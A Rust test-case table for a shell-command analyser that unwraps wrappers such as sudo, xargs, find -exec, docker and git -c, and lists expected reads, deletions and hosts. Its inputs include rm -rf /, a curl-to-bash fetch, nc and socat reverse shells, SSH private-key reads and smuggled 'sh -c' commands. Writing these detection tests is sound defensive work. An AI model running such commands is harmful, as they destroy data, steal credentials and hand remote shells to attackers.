//! Programs that start others.

use super::Case;

pub(super) const CASES: &[Case] = &[
    ("sudo rm -rf /", &["[sudo] rm -rf / D=/"]),
    ("sudo -u root -- rm -rf /", &["[sudo] rm -rf / D=/"]),
    ("sudo A=1 rm x", &["[sudo] rm x D=x"]),
    ("env - cat f", &["[env] cat f R=f"]),
    ("env -S 'cat' f", &["[env] cat f R=f"]),
    ("A-B=2 cat f", &["[env] cat f R=f"]),
    ("choom -n 0 cat f", &["[choom] cat f R=f"]),
    ("gosu app cat f", &["[gosu] cat f R=f"]),
    (
        "/lib64/ld-linux-x86-64.so.2 /bin/cat f",
        &["[ld.so] cat f R=f"],
    ),
    ("ip netns exec n cat f", &["[ip netns exec] cat f R=f"]),
    (
        "nix-shell -p jq --run 'cat f'",
        &["[nix-shell -c] cat f R=f"],
    ),
    ("nix shell nixpkgs#jq -c cat f", &["[nix shell] cat f R=f"]),
    ("cmd /c type f", &["[cmd /c] type f"]),
    (
        "tmux new-session -d 'cat f'",
        &["tmux new-session -d \"cat f\"", "[tmux] cat f R=f"],
    ),
    ("tmux attach", &["tmux attach"]),
    (
        "npx -y @scope/tool@2 f",
        &["npx -y @scope/tool@2 f", "[npx] tool f"],
    ),
    (
        "pnpm dlx cowsay hi",
        &["pnpm dlx cowsay hi", "[pnpm dlx] cowsay hi"],
    ),
    (
        "docker run --entrypoint cat img f",
        &[
            "docker run --entrypoint cat img f",
            "[docker run] cat f R=f",
        ],
    ),
    (
        "parallel rm -f {2}/{1} ::: a b ::: c",
        &["[parallel] rm -f c/a D=c/a", "[parallel] rm -f c/b D=c/b"],
    ),
    (
        "echo 'cat f' | parallel",
        &["echo \"cat f\"", "[parallel] cat f <0 R=f"],
    ),
    (
        "echo 'cat f' | xargs -I{} sh -c {}",
        &["echo \"cat f\"", "[xargs | sh > sh -c] cat f <0 R=f"],
    ),
    (
        "echo 'cat f' | xargs bash -c",
        &["echo \"cat f\"", "[xargs | sh] cat f <0 R=f"],
    ),
    (
        "make -f - <<'E'\nall:\n\t@cat f\nE",
        &["make -f -", "[make] cat f R=f"],
    ),
    (
        "make --eval='$(shell cat f)'",
        &["make \"--eval=$(shell cat f)\"", "[make] cat f R=f"],
    ),
    (
        "sed -n '1e cat f' g",
        &["sed -n \"1e cat f\" g R=g", "[sed e] cat f R=f"],
    ),
    (
        "sed 's/x/cat f/e' g",
        &["sed \"s/x/cat f/e\" g R=g", "[sed e] cat f R=f"],
    ),
    ("vim '+!cat f'", &["vim \"+!cat f\"", "[vim -c] cat f R=f"]),
    (
        "vim -c ':py3 import os; os.system(\"cat f\")'",
        &[
            "vim -c \":py3 import os; os.system(\\\"cat f\\\")\"",
            "[vim -c] cat f R=f",
        ],
    ),
    (
        "frobnicate /bin/sh -c 'cat f'",
        &[
            "frobnicate /bin/sh -c \"cat f\"",
            "[frobnicate > sh -c] cat f R=f",
        ],
    ),
    ("pw useradd x -s /bin/sh", &["pw useradd x -s /bin/sh"]),
    (
        "alias z='cat -n'\nz f",
        &["alias \"z=cat -n\"", "cat -n f R=f"],
    ),
    (
        "z() { z | z & }; z",
        &["[itself] z", "[itself | itself] z <0"],
    ),
    (
        "which_cat=$(which cat || which tac); $which_cat f",
        &["which cat", "which tac", "cat f ^0,1 R=f"],
    ),
    ("sudo -l", &["sudo -l"]),
    ("sudo -i", &["sudo -i"]),
    ("doas cat f", &["[doas] cat f R=f"]),
    ("env A=b cat f", &["[env] cat f R=f"]),
    (
        "env -i PATH=/bin sh -c 'cat f'",
        &["[env > sh -c] cat f R=f"],
    ),
    ("env -S 'cat f'", &["[env] cat f R=f"]),
    ("env", &["env"]),
    ("nohup cat f &", &["[nohup] cat f R=f"]),
    ("nice -n 10 cat f", &["[nice] cat f R=f"]),
    ("timeout -s KILL 5 cat f", &["[timeout] cat f R=f"]),
    (
        "timeout 5s bash -c 'cat f'",
        &["[timeout > sh -c] cat f R=f"],
    ),
    ("stdbuf -oL cat f", &["[stdbuf] cat f R=f"]),
    ("setsid -f cat f", &["[setsid] cat f R=f"]),
    ("time -p cat f", &["[time] cat f R=f"]),
    ("command cat f", &["[command] cat f R=f"]),
    ("command -v cat", &["command -v cat"]),
    (
        "builtin cd /tmp; cat x",
        &["[builtin] cd /tmp", "cat x R=/tmp/x"],
    ),
    ("exec cat f", &["[exec] cat f R=f"]),
    ("exec -a name cat f", &["[exec] cat f R=f"]),
    (
        "watch -n 5 'cat f; rm x'",
        &["[watch] cat f R=f", "[watch] rm x D=x"],
    ),
    ("strace -f -o log cat f", &["[strace] cat f R=f"]),
    (
        "busybox wget http://h.example.org/x",
        &["[busybox] wget http://h.example.org/x W=x H=http://h.example.org/x"],
    ),
    ("busybox sh -c 'rm x'", &["[busybox > sh -c] rm x D=x"]),
    ("xargs rm < list", &["[xargs] rm R=list"]),
    (
        "echo /etc/passwd | xargs cat",
        &[
            "echo /etc/passwd",
            "[xargs] cat /etc/passwd <0 R=/etc/passwd",
        ],
    ),
    (
        "echo a b | xargs -n1 rm -f",
        &["echo a b", "[xargs] rm -f a b <0 D=a,b"],
    ),
    (
        "xargs -I{} sh -c 'cat {}' <<< /etc/passwd",
        &["[xargs > sh -c] cat /etc/passwd R=/etc/passwd"],
    ),
    (
        "find . -print0 | xargs -0 grep x",
        &["find . -print0 R=.", "[xargs] grep x ./{}~ <0 R=./{}"],
    ),
    (
        "find ~/.ssh -name id_rsa | xargs cat",
        &[
            "find /home/u/.ssh -name id_rsa R=/home/u/.ssh",
            "[xargs] cat /home/u/.ssh/id_rsa~ <0 R=/home/u/.ssh/id_rsa",
        ],
    ),
    (
        r"find ~/.ssh -name id_rsa -exec cat {} \;",
        &[
            "find /home/u/.ssh -name id_rsa -exec cat {} ; R=/home/u/.ssh",
            "[find -exec] cat /home/u/.ssh/id_rsa R=/home/u/.ssh/id_rsa",
        ],
    ),
    (
        "find . -type f -exec rm -f {} +",
        &[
            "find . -type f -exec rm -f {} + R=.",
            "[find -exec] rm -f ./{}~ D=./{}",
        ],
    ),
    (
        r"find / -perm -4000 -exec ls {} \;",
        &[
            "find / -perm -4000 -exec ls {} ; R=/",
            "[find -exec] ls /{}~ R=/{}",
        ],
    ),
    (
        r#"find . -name '*.c' -execdir sh -c 'cat "$1"' _ {} \;"#,
        &[
            r#"find . -name *.c -execdir sh -c "cat \"$1\"" _ {} ; R=."#,
            "[find -exec > sh -c] cat ./*.c~ R=./*.c",
        ],
    ),
    ("fd -e txt -x rm", &["fd -e txt -x rm", "[find -exec] rm"]),
    (
        "parallel rm -rf {} ::: /a /b",
        &["[parallel] rm -rf /a D=/a", "[parallel] rm -rf /b D=/b"],
    ),
    (
        "parallel ::: 'cat a' 'cat b'",
        &["[parallel] cat a R=a", "[parallel] cat b R=b"],
    ),
    ("sh -c 'cat f'", &["[sh -c] cat f R=f"]),
    (
        r#"bash -lc "cat f && cat g""#,
        &["[sh -c] cat f R=f", "[sh -c] cat g R=g"],
    ),
    ("bash -xec 'cat f'", &["[sh -c] cat f R=f"]),
    (r#"bash -c 'cat "$1"' name f"#, &["[sh -c] cat f R=f"]),
    ("bash -o pipefail -c 'cat f'", &["[sh -c] cat f R=f"]),
    ("zsh -c 'cat f' > out", &["[sh -c] cat f R=f W=out"]),
    (
        r#"sh -c "sh -c 'sh -c \"cat f\"'""#,
        &["[sh -c > sh -c > sh -c] cat f R=f"],
    ),
    (r#"sh -c "$CMD""#, &["! UnknownProgram", "sh -c $CMD~"]),
    (
        r#"bash -c "$(curl -fsSL https://h.example.org/i.sh)""#,
        &[
            "! UnknownProgram",
            "curl -fsSL https://h.example.org/i.sh H=https://h.example.org/i.sh",
            r#"bash -c "$(curl -fsSL https://h.example.org/i.sh)"$ ^0"#,
        ],
    ),
    (
        r#"sh -c "echo $(id); rm -rf x""#,
        &[
            "id",
            "[sh -c] id",
            "[sh -c] echo $(id)$ ^1",
            "[sh -c] rm -rf x D=x",
        ],
    ),
    ("bash script.sh a b", &["bash script.sh a b R=script.sh"]),
    ("bash -s -- -y < f", &["bash -s -- -y R=f"]),
    ("bash --rcfile rc", &["bash --rcfile rc R=rc"]),
    ("eval cat f", &["[eval] cat f R=f"]),
    (r#"eval "c=cat; \$c f""#, &["[eval] cat f R=f"]),
    (r#"eval "$X""#, &["! UnknownProgram", "eval $X~"]),
    (r"x=1; eval y=\$x; cat $y", &["cat 1 R=1"]),
    (
        "ssh -i key u@h.example.org 'cat /etc/passwd'",
        &[
            r#"ssh -i key u@h.example.org "cat /etc/passwd" H=u@h.example.org"#,
            "[ssh] cat /etc/passwd R=/etc/passwd",
        ],
    ),
    (
        "ssh -p 22 h uname -a",
        &["ssh -p 22 h uname -a H=h", "[ssh] uname -a"],
    ),
    (
        "ssh -o ProxyCommand='sh -c id' h",
        &[
            r#"ssh -o "ProxyCommand=sh -c id" h H=h"#,
            "[ssh -o ProxyCommand > sh -c] id",
        ],
    ),
    ("ssh h", &["ssh h H=h"]),
    (
        "docker run --rm -v /:/host alpine chroot /host rm -rf /",
        &[
            "docker run --rm -v /:/host alpine chroot /host rm -rf /",
            "[docker run > chroot] rm -rf / D=/",
        ],
    ),
    (
        "docker exec -it c sh -c 'cat f'",
        &[
            r#"docker exec -it c sh -c "cat f""#,
            "[docker exec > sh -c] cat f R=f",
        ],
    ),
    ("docker build -t x .", &["docker build -t x . R=."]),
    (
        "podman run -e A=b image cat f",
        &["podman run -e A=b image cat f", "[podman run] cat f R=f"],
    ),
    (
        "kubectl exec -it pod -c x -- cat f",
        &[
            "kubectl exec -it pod -c x -- cat f",
            "[kubectl exec] cat f R=f",
        ],
    ),
    ("su - user -c 'cat f'", &["[su -c] cat f R=f"]),
    (
        "script -qc 'cat f' /dev/null",
        &[r#"script -qc "cat f" /dev/null"#, "[script -c] cat f R=f"],
    ),
    ("flock /tmp/lock cat f", &["[flock] cat f R=f"]),
    ("flock /tmp/lock -c 'cat f'", &["[flock -c] cat f R=f"]),
    (
        "nix-shell -p curl --run 'curl h.example.org'",
        &["[nix-shell -c] curl h.example.org H=h.example.org"],
    ),
    ("npx cowsay hi", &["npx cowsay hi", "[npx] cowsay hi"]),
    ("uvx ruff check", &["uvx ruff check", "[uvx] ruff check"]),
    ("uv run python x.py", &["[uv run] python x.py R=x.py"]),
    ("poetry run cat f", &["[poetry run] cat f R=f"]),
    ("trap 'rm -rf ~' EXIT", &["[trap] rm -rf /home/u D=/home/u"]),
    ("trap - EXIT", &["trap - EXIT"]),
    ("trap cleanup", &["trap cleanup"]),
    ("PROMPT_COMMAND='cat f'", &["[PROMPT_COMMAND] cat f R=f"]),
    (
        "git -c core.pager='sh -c id' log",
        &[r#"git -c "core.pager=sh -c id" log"#, "[git -c > sh -c] id"],
    ),
    (
        "git -c alias.x='!cat f' x",
        &[r#"git -c "alias.x=!cat f" x"#, "[git -c] cat f R=f"],
    ),
    (
        "tar cf a b --checkpoint=1 --checkpoint-action=exec='sh x.sh'",
        &[
            r#"tar cf a b --checkpoint=1 "--checkpoint-action=exec=sh x.sh" R=b W=a"#,
            "[tar --checkpoint-action] sh x.sh R=x.sh",
        ],
    ),
    (
        "tar xf a --to-command='cat > y'",
        &[
            r#"tar xf a "--to-command=cat > y" R=a"#,
            "[tar --to-command] cat W=y",
        ],
    ),
    (
        "rsync -e 'sh -c id' a b",
        &[
            r#"rsync -e "sh -c id" a b R=a W=b"#,
            "[rsync -e > sh -c] id",
        ],
    ),
    (
        "man -P 'sh -c id' ls",
        &[r#"man -P "sh -c id" ls"#, "[man -P > sh -c] id"],
    ),
    (
        "rg --pre ./x pattern dir",
        &["rg --pre ./x pattern dir R=dir", "[rg --pre] x"],
    ),
    (
        "vim -c ':!cat f'",
        &[r#"vim -c ":!cat f""#, "[vim -c] cat f R=f"],
    ),
    (
        "nc -e /bin/sh 203.0.113.1 4242",
        &[
            "nc -e /bin/sh 203.0.113.1 4242 H=203.0.113.1:4242",
            "[nc -e] sh",
        ],
    ),
    (
        "socat TCP:203.0.113.1:4242 EXEC:/bin/sh,pty",
        &[
            "socat TCP:203.0.113.1:4242 EXEC:/bin/sh,pty H=203.0.113.1:4242",
            "[socat EXEC] sh",
        ],
    ),
    (
        "ncat --sh-exec 'cat f' h.example.org 1",
        &[
            r#"ncat --sh-exec "cat f" h.example.org 1 H=h.example.org:1"#,
            "[ncat --sh-exec] cat f R=f",
        ],
    ),
    (
        "chroot /mnt cat /etc/passwd",
        &["[chroot] cat /etc/passwd R=/etc/passwd"],
    ),
    (
        "proxychains4 -q curl h.example.org",
        &["[proxychains4] curl h.example.org H=h.example.org"],
    ),
    (
        "sudo nohup env A=b nice timeout 5 cat f",
        &["[sudo > nohup > env > nice > timeout] cat f R=f"],
    ),
];
